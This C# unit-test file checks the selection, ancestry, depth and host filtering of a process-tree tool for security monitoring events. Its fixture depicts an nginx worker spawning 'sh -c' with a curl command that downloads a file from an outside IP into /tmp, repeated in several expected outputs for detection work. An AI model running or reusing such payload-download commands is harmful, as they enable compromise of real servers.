using System;
using System.Collections.Generic;
using System.Linq;
using CsmEvents.Model;
using CsmEvents.ProcessTree;
using static CsmEvents.Tests.ProcessTree.TreeEvents;

namespace CsmEvents.Tests.ProcessTree;

public class SelectionTests
{
    private static string Show(ProcessTreeOptions options) => TreeText(Scenario.Events(), options);

    private const string ShLine = "sh (4242) [exec] 1 event: sh -c 'curl -o /tmp/x http://203.0.113.9/x'";
    private const string CurlLine = "curl (4300) [exec] 3 events: curl -o /tmp/x http://203.0.113.9/x";

    [Fact]
    public void PidSelectsEveryImageAndShowsTheSubtreeOfTheTopmostOnce()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "nginx (4242) [thread, selected]: /usr/sbin/nginx",
            "└─ sh (4242) [exec, selected] 1 event: sh -c 'curl -o /tmp/x http://203.0.113.9/x'",
            "   └─ sh (4300) [thread]: /usr/bin/dash",
            "      └─ " + CurlLine), Show(new ProcessTreeOptions { Pids = { 4242 } }));
    }

    [Fact]
    public void NameWildcardMatchesCommCaseInsensitively()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "curl (4300) [exec, selected] 3 events: curl -o /tmp/x http://203.0.113.9/x"),
            Show(new ProcessTreeOptions { Names = { "CU?L" } }));
    }

    [Fact]
    public void NameWildcardAlsoMatchesTheExecutableFileName()
    {
        // comm is "sh" but the executable is /usr/bin/dash; [c-d]a* matches "dash" only.
        var result = ProcessTreeRunner.Run(Scenario.Events(), new ProcessTreeOptions { Names = { "[c-d]a*" } });
        Assert.Equal(new[] { "sh (5000) [selected] 1 event: /bin/sh -c 'logrotate /etc/logrotate.conf'", ShLine.Replace("[exec]", "[exec, selected]") },
            result.Roots.Select(r => r.TreeLine).ToArray());
        Assert.Equal(new[] { 5000L, 4242, 4300, 4300 }, result.Nodes.Select(n => n.Pid!.Value).ToArray());
        Assert.Equal(new[] { true, true, true, false }, result.Nodes.Select(n => n.IsSelected).ToArray());
    }

    [Fact]
    public void NestedMatchesAreShownInsideTheTopmostSelectedSubtree()
    {
        var result = ProcessTreeRunner.Run(Scenario.Events(), new ProcessTreeOptions { Names = { "nginx" } });
        Assert.Equal(new long?[] { 1000 }, result.Roots.Select(r => r.Pid).ToArray());
        Assert.Equal(6, result.Nodes.Count);
        Assert.Equal(new[] { 0, 1, 2, 3, 4, 5 }, result.Nodes.Select(n => n.Depth).ToArray());
    }

    [Fact]
    public void AncestryShowsTheLineageFromTheRootToTheSelectedNode()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1): /sbin/init",
            "└─ nginx (1000): nginx -g 'daemon off;'",
            "   └─ nginx (4100) [thread]: /usr/sbin/nginx",
            "      └─ nginx (4242) [thread]: /usr/sbin/nginx",
            "         └─ " + ShLine,
            "            └─ sh (4300) [thread]: /usr/bin/dash",
            "               └─ curl (4300) [exec, selected] 3 events: curl -o /tmp/x http://203.0.113.9/x"),
            Show(new ProcessTreeOptions { Names = { "curl" }, Ancestry = true }));
    }

    [Fact]
    public void AncestryOfSeveralNodesSharesTheirCommonAncestors()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1): /sbin/init",
            "├─ cron (700): /usr/sbin/cron -f",
            "│  └─ sh (5000) [selected] 1 event: /bin/sh -c 'logrotate /etc/logrotate.conf'",
            "└─ nginx (1000) [selected]: nginx -g 'daemon off;'"),
            Show(new ProcessTreeOptions { Pids = { 5000, 1000 }, Ancestry = true }));
    }

    [Fact]
    public void AncestryDepthLimitsTheAncestorsShown()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            ShLine,
            "└─ sh (4300) [thread]: /usr/bin/dash",
            "   └─ curl (4300) [exec, selected] 3 events: curl -o /tmp/x http://203.0.113.9/x"),
            Show(new ProcessTreeOptions { Names = { "curl" }, Ancestry = true, Depth = 2 }));
    }

    [Fact]
    public void DepthLimitsLevelsBelowTheRoots()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1): /sbin/init",
            "├─ cron (700): /usr/sbin/cron -f",
            "└─ nginx (1000): nginx -g 'daemon off;'"), Show(new ProcessTreeOptions { Depth = 1 }));
        Assert.Equal(Lines(
            "host: a.jsonl",
            "nginx (1000) [selected]: nginx -g 'daemon off;'",
            "└─ nginx (4100) [thread]: /usr/sbin/nginx"), Show(new ProcessTreeOptions { Pids = { 1000 }, Depth = 1 }));
        Assert.Equal(Lines("host: a.jsonl", "systemd (1): /sbin/init"), Show(new ProcessTreeOptions { Depth = 0 }));
    }

    [Fact]
    public void HostFilterKeepsMatchingHostsOnly()
    {
        var events = new List<CsmEvent>
        {
            Event(P(10, "a"), new[] { P(1, "init") }, host: "web-1"),
            Event(P(10, "b"), new[] { P(1, "init") }, host: "WEB-2"),
            Event(P(10, "c"), new[] { P(1, "init") }, host: "db-1"),
        };
        Assert.Equal(Lines(
            "host: WEB-2",
            "init (1)",
            "└─ b (10) 1 event",
            "host: web-1",
            "init (1)",
            "└─ a (10) 1 event"), TreeText(events, new ProcessTreeOptions { Hosts = { "web-*" } }));
        Assert.Equal(Lines("host: db-1", "c (10) [selected] 1 event"),
            TreeText(events, new ProcessTreeOptions { Hosts = { "db-?" }, Pids = { 10 } }));
    }

    [Fact]
    public void SelectionThatMatchesNothingGivesAnEmptyTree()
    {
        var result = ProcessTreeRunner.Run(Scenario.Events(), new ProcessTreeOptions { Names = { "nothing*" } });
        Assert.Empty(result.Nodes);
        Assert.Empty(result.Roots);
        Assert.Equal(9, result.ProcessCount);
    }

    [Fact]
    public void InvalidOptionsAreRejectedBeforeAnyEvent()
    {
        var ex = Assert.Throws<ArgumentException>(() => new ProcessTreeRunner(new ProcessTreeOptions { Names = { "sh[" } }));
        Assert.StartsWith("The wildcard pattern 'sh[' is not valid: a '[' at position 3 is not closed by ']'.", ex.Message);
        var depth = Assert.Throws<ArgumentOutOfRangeException>(() => new ProcessTreeRunner(new ProcessTreeOptions { Depth = -1 }));
        Assert.StartsWith("Depth must be 0 or more.", depth.Message);
    }
}
